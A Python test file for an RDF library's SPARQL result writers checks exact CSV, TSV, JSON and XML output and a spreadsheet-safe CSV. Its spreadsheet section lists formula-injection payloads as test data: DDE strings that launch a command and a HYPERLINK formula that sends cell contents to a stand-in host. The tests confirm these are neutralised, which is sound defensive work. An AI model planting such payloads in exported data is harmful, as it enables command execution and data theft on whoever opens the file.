"""The result formats of SPARQL 1.1, byte for byte, and the one for spreadsheets."""

# ruff: noqa: E501 - a format byte for byte is read best in its own lines

from __future__ import annotations

import csv
import io
import json
import time
from xml.etree import ElementTree as ET

import pytest

from samverkan.errors import NotAcceptableError
from samverkan.formats import formats_for, named
from samverkan.formats.jsonld import Context
from samverkan.model.results import BooleanResult, Table
from samverkan.store import Embedded

CONTEXT = Context.of({})
STORE = Embedded()


def _write(name: str, content: Table | BooleanResult) -> str:
    form = named(name)
    assert form is not None
    return form(content, CONTEXT).decode()


def _table(sparql: str) -> Table:
    answer = STORE.query(sparql)
    assert isinstance(answer, Table)
    return answer


TERMS = _table(
    "SELECT ?iri ?text ?tagged ?typed ?number ?unbound { VALUES (?iri ?text ?tagged ?typed ?number) {"
    ' (<urn:x> "a,b" "hej"@sv "2020-01-01"^^<http://www.w3.org/2001/XMLSchema#date> 5)'
    ' (UNDEF "say \\"hi\\"\\n" "a\\tb"@en "x"^^<urn:t> 1.50) } }'
)


def test_csv_has_plain_values_and_ends_lines_with_cr_lf() -> None:
    assert _write("csv", TERMS) == (
        'iri,text,tagged,typed,number,unbound\r\nurn:x,"a,b",hej,2020-01-01,5,\r\n,"say ""hi""\n",a\tb,x,1.5,\r\n'
    )


def test_tsv_has_terms_in_turtle_and_ends_lines_with_lf() -> None:
    assert _write("tsv", TERMS) == (
        "?iri\t?text\t?tagged\t?typed\t?number\t?unbound\n"
        '<urn:x>\t"a,b"\t"hej"@sv\t"2020-01-01"^^<http://www.w3.org/2001/XMLSchema#date>\t5\t\n'
        '\t"say \\"hi\\"\\n"\t"a\\tb"@en\t"x"^^<urn:t>\t1.5\t\n'
    )


def test_json_has_every_term_with_its_kind() -> None:
    found = json.loads(_write("json", TERMS))
    assert found["head"] == {"vars": ["iri", "text", "tagged", "typed", "number", "unbound"]}
    first, second = found["results"]["bindings"]
    assert first == {
        "iri": {"type": "uri", "value": "urn:x"},
        "text": {"type": "literal", "value": "a,b"},
        "tagged": {"type": "literal", "value": "hej", "xml:lang": "sv"},
        "typed": {"type": "literal", "value": "2020-01-01", "datatype": "http://www.w3.org/2001/XMLSchema#date"},
        "number": {"type": "literal", "value": "5", "datatype": "http://www.w3.org/2001/XMLSchema#integer"},
    }
    assert second["text"] == {"type": "literal", "value": 'say "hi"\n'}
    assert set(second) == {"text", "tagged", "typed", "number"}


def test_xml_has_every_term_with_its_kind() -> None:
    wanted = (
        '<sparql xmlns="http://www.w3.org/2005/sparql-results#"><head><variable name="iri"/><variable name="text"/>'
        '<variable name="tagged"/><variable name="typed"/><variable name="number"/><variable name="unbound"/></head><results><result>'
        '<binding name="iri"><uri>urn:x</uri></binding><binding name="text"><literal>a,b</literal></binding>'
        '<binding name="tagged"><literal xml:lang="sv">hej</literal></binding>'
        '<binding name="typed"><literal datatype="http://www.w3.org/2001/XMLSchema#date">2020-01-01</literal></binding>'
        '<binding name="number"><literal datatype="http://www.w3.org/2001/XMLSchema#integer">5</literal></binding></result><result>'
        '<binding name="text"><literal>say "hi"\n</literal></binding><binding name="tagged"><literal xml:lang="en">a\tb</literal></binding>'
        '<binding name="typed"><literal datatype="urn:t">x</literal></binding>'
        '<binding name="number"><literal datatype="http://www.w3.org/2001/XMLSchema#decimal">1.5</literal></binding>'
        "</result></results></sparql>"
    )
    assert ET.canonicalize(_write("xml", TERMS)) == ET.canonicalize(wanted)


HARD = [
    "",
    " ",
    ",",
    '"',
    '""',
    "\n",
    "\r",
    "\r\n",
    "\t",
    ";",
    "=1+1",
    "a\\nb",
    "é",
    "\u2028",
    "<&>",
    "]]>",
    " x ",
    "x\n",
]


@pytest.mark.parametrize("text", HARD)
def test_a_hard_text_comes_back_from_every_format(text: str) -> None:
    from pyoxigraph import Literal

    table = _table(f"SELECT ?x ?y {{ VALUES (?x ?y) {{ ({Literal(text)} 1) }} }}")
    assert list(csv.reader(io.StringIO(_write("csv", table), newline=""), strict=True))[1] == [text, "1"]
    assert _write("tsv", table).split("\n")[1] == f"{_tsv(text)}\t1"
    assert json.loads(_write("json", table))["results"]["bindings"][0]["x"]["value"] == text
    found = ET.fromstring(_write("xml", table)).find(".//{*}literal")
    assert found is not None
    assert (found.text or "") == text


def _tsv(text: str) -> str:
    escapes = {"\\": "\\\\", '"': '\\"', "\n": "\\n", "\r": "\\r", "\t": "\\t"}
    return '"' + "".join(escapes.get(character, character) for character in text) + '"'


@pytest.mark.parametrize("character", ["\x00", "\x0b", "\x1f", "\ufffe", "\uffff"])
def test_a_character_that_xml_has_not_is_refused_in_xml_alone(character: str) -> None:
    table = Table(
        json.dumps(
            {"head": {"vars": ["x"]}, "results": {"bindings": [{"x": {"type": "literal", "value": character}}]}}
        ).encode()
    )
    with pytest.raises(NotAcceptableError, match="XML can't carry"):
        _write("xml", table)
    assert json.loads(_write("json", table))["results"]["bindings"][0]["x"]["value"] == character
    assert character in _write("csv", table)


def test_an_empty_table_has_its_head() -> None:
    table = _table("SELECT ?a ?b { FILTER (false) }")
    assert (table.variables, table.rows) == (("a", "b"), ())
    assert _write("csv", table) == "a,b\r\n"
    assert _write("tsv", table) == "?a\t?b\n"
    assert json.loads(_write("json", table)) == {"head": {"vars": ["a", "b"]}, "results": {"bindings": []}}
    assert "<results>" in _write("xml", table).replace("<results/>", "<results>")


def test_a_table_without_columns_has_its_rows() -> None:
    table = _table("SELECT * {}")
    assert (table.variables, table.rows) == ((), ((),))
    assert _write("csv", table) == "\r\n\r\n"
    assert _write("tsv", table) == "\n\n"
    assert json.loads(_write("json", table)) == {"head": {"vars": []}, "results": {"bindings": [{}]}}
    assert len(ET.fromstring(_write("xml", table)).findall(".//{*}result")) == 1


@pytest.mark.parametrize("separators", [(",", ":"), (", ", ": "), (" ,\n", " :\t")], ids=repr)
@pytest.mark.parametrize("iri", ["https://example.org/a,b", 'https://example.org/"a"', 'urn:x:"', 'urn:x:,"'])
def test_an_iri_with_a_comma_or_a_quotation_mark_stays_in_its_cell(iri: str, separators: tuple[str, str]) -> None:
    """However the JSON is laid out; no IRI that was checked has a quotation mark, but a cell can hold it."""
    texts = ['"type":"uri"', "uri"]
    row = {"x": {"value": iri, "type": "uri"}}
    row |= {name: {"type": "literal", "value": text} for name, text in zip("yz", texts, strict=True)}
    found = {"head": {"vars": ["x", "y", "z"]}, "results": {"bindings": [row]}}
    table = Table(json.dumps(found, separators=separators).encode())
    for written in (MARK + _write("csv", table), _write("spreadsheet", table)):
        assert _read(written) == [["x", "y", "z"], [iri, *texts]]


def test_a_triple_is_one_cell_with_its_terms_as_in_tsv() -> None:
    table = _table('SELECT ?x ?y { BIND (<<( <urn:a,b> <urn:p> "c,\\"" )>> AS ?x) BIND (<urn:d,e> AS ?y) }')
    wanted = [["x", "y"], ['<<( <urn:a,b> <urn:p> "c,\\"" )>>', "urn:d,e"]]
    assert _read(MARK + _write("csv", table)) == _read(_write("spreadsheet", table)) == wanted
    assert _write("tsv", table).split("\n")[1].split("\t")[0] == wanted[1][0]


@pytest.mark.parametrize("cell", ['""', "UNDEF"], ids=["an empty text", "nothing"])
def test_an_empty_cell_alone_has_quotation_marks_so_that_its_row_is_read(cell: str) -> None:
    table = _table(f'SELECT ?x {{ VALUES ?x {{ "a" {cell} "b\\r\\n\\r\\n" <urn:c,d> }} }}')
    assert _write("csv", table) == 'x\r\na\r\n""\r\n"b\r\n\r\n"\r\n"urn:c,d"\r\n'
    assert _write("spreadsheet", table) == MARK + _write("csv", table)


def test_empty_cells_beside_others_have_none() -> None:
    table = _table('SELECT ?x ?y { VALUES (?x ?y) { ("" UNDEF) } }')
    assert _write("csv", table) == "x,y\r\n,\r\n"


def test_blank_nodes_are_told_apart() -> None:
    table = _table("SELECT ?x ?y { BIND (BNODE() AS ?x) BIND (BNODE() AS ?y) }")
    first, second = _write("csv", table).split("\r\n")[1].split(",")
    assert first.startswith("_:")
    assert second.startswith("_:")
    assert first != second


@pytest.mark.parametrize(("value", "word"), [(True, "true"), (False, "false")])
def test_a_verdict_is_a_boolean_in_json_and_xml_which_csv_and_tsv_do_not_have(value: bool, word: str) -> None:
    assert [form.name for form in formats_for(BooleanResult)] == ["json", "xml"]
    verdict = BooleanResult(value)
    assert _write("json", verdict) == f'{{"head":{{}},"boolean":{word}}}'
    assert ET.fromstring(_write("xml", verdict)).findtext("{*}boolean") == word


def test_a_table_is_written_as_often_as_one_likes() -> None:
    assert _write("csv", TERMS) == _write("csv", TERMS)
    assert TERMS.rows == TERMS.rows


# ---------------------------------------------------------------- for spreadsheets

# What somebody may have written into the data, and what a spreadsheet is given.
HOSTILE = {
    "a formula": ("=1+1", "'=1+1"),
    "a link": ('=HYPERLINK("https://evil.example?"&A1,"x")', '\'=HYPERLINK("https://evil.example?"&A1,"x")'),
    "DDE": ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    "a plus": ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    "a telephone number": ("+46 8 524 800 00", "'+46 8 524 800 00"),
    "a minus": ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
    "a number and more": ("-5\n=1", "'-5\n'=1"),
    "a number of another script": ("-\u0665", "'-\u0665"),
    "an at": ("@SUM(1+1)", "'@SUM(1+1)"),
    "full width": ("\uff1d1", "'\uff1d1"),
    "plus of full width": ("\uff0b1", "'\uff0b1"),
    "minus of full width": ("\uff0d1", "'\uff0d1"),
    "at of full width": ("\uff20x", "'\uff20x"),
    "spaces first": ("  =1", "'  =1"),
    "other spaces first": ("\u00a0\u3000=1", "'\u00a0\u3000=1"),
    "a space before a number": (" -5", "' -5"),
    "a tab first": ("\tx", "'\tx"),
    "a line feed first": ("\nx", "'\nx"),
    "a carriage return first": ("\rx", "'\rx"),
    "a line first": ("\n=1", "'\n'=1"),
    "a later line": ("x\r\n =1", "x\r\n' =1"),
    "a semicolon": ("x;=1;", "x;'=1;"),
    "a tab": ("x\t@y", "x\t'@y"),
    "quotes": ('";=1', "\";'=1"),
}
HARMLESS = [
    "",
    "-5",
    "5",
    "-0.5",
    "1.50",
    "a=b",
    "a - b",
    "x, =1",
    "a@b.se",
    "x\r\n\r\ny; z",
    "'=1",
    "Å",
    "_:b",
    '"',
    " x ",
]
MARK = "\ufeff"


def _texts(*texts: str) -> Table:
    rows = [{"x": {"type": "literal", "value": text}} for text in texts]
    return Table(json.dumps({"head": {"vars": ["x"]}, "results": {"bindings": rows}}).encode())


def _read(written: str) -> list[list[str]]:
    """CSV as a program reads it, without the byte order mark."""
    assert written.startswith(MARK)
    return list(csv.reader(io.StringIO(written.removeprefix(MARK), newline=""), strict=True))


@pytest.mark.parametrize(("text", "safe"), HOSTILE.values(), ids=HOSTILE)
def test_a_spreadsheet_is_given_no_formula(text: str, safe: str) -> None:
    assert _read(_write("spreadsheet", _texts(text, "y"))) == [["x"], [safe], ["y"]]
    assert _read(MARK + _write("csv", _texts(text))) == [["x"], [text]]


@pytest.mark.parametrize("sign", [";", "\t", ","])
@pytest.mark.parametrize("text", [text for text, _ in HOSTILE.values()])
def test_no_cell_is_a_formula_whatever_a_program_splits_at(text: str, sign: str) -> None:
    signs = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
    written = _write("spreadsheet", _texts(f"x{text}", text)).removeprefix(MARK)
    quoted = csv.reader(io.StringIO(written, newline=""), delimiter=sign)
    pieces = written.replace("\r", "\n").replace(sign, "\n").split("\n")  # of a program that minds no quotes
    for cell in [*(cell for row in quoted for cell in row), *pieces]:
        assert not cell.lstrip().startswith(signs)


@pytest.mark.parametrize("text", HARMLESS)
def test_a_spreadsheet_is_given_what_is_harmless_as_it_is(text: str) -> None:
    (_, found) = _read(_write("spreadsheet", _texts(text)))
    assert found == [text]


def test_the_header_of_a_spreadsheet_is_no_formula_either() -> None:
    table = _table("SELECT ?\uff1dx { BIND (1 AS ?\uff1dx) }")  # SPARQL takes it in the name of a variable
    assert _write("spreadsheet", table) == f"{MARK}'\uff1dx\r\n1\r\n"


def test_numbers_stay_numbers_in_a_spreadsheet() -> None:
    table = _table("SELECT ?a ?b ?c ?d { VALUES (?a ?b ?c ?d) { (-5 -0.5 7 -1.0e0) } }")
    assert _write("spreadsheet", table) == f"{MARK}a,b,c,d\r\n-5,-0.5,7,-1\r\n"


def test_a_spreadsheet_says_the_same_as_csv_where_nothing_is_dangerous() -> None:
    assert _write("spreadsheet", TERMS) == MARK + _write("csv", TERMS).replace("a\tb", '"a\tb"')
    for sparql in ("SELECT ?a ?b { FILTER (false) }", "SELECT * {}", "SELECT ?x { BIND (BNODE() AS ?x) }"):
        table = _table(sparql)
        assert _write("spreadsheet", table) == MARK + _write("csv", table)


def test_a_long_cell_of_blanks_takes_no_long_time() -> None:
    began = time.perf_counter()
    for blank in (" ", "\n", ";", "\t ", "; "):
        assert len(_write("spreadsheet", _texts(blank * 100_000))) >= 100_000
    assert time.perf_counter() - began < 2
